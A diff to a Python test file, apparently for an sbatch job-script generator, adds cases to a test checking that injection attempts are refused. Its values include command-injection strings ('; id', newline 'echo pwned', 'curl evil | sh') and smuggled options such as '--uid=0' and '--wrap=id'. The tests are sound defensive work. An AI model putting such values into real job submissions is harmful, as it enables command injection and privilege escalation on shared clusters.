@@ -62,6 +62,12 @@ def test_directives_are_sorted_and_one_node_differs_from_n_only_in_nodes():
         ("extra", ["--constraint=a100\necho pwned"]),
         ("extra", ["; id"]),
         ("setup", ["module load x\ncurl evil | sh"]),
+        # sbatch splits an #SBATCH line at spaces: each word would be an option of its own
+        ("output", "logs/my run.out --uid=0"),
+        ("error", "e.out --wrap=id"),
+        ("extra", ["--constraint=a100 --uid=0"]),
+        ("signal_grace_s", -5),
+        ("signal_grace_s", 99999),
     ],
 )
 def test_injection_attempts_are_refused(key, value):
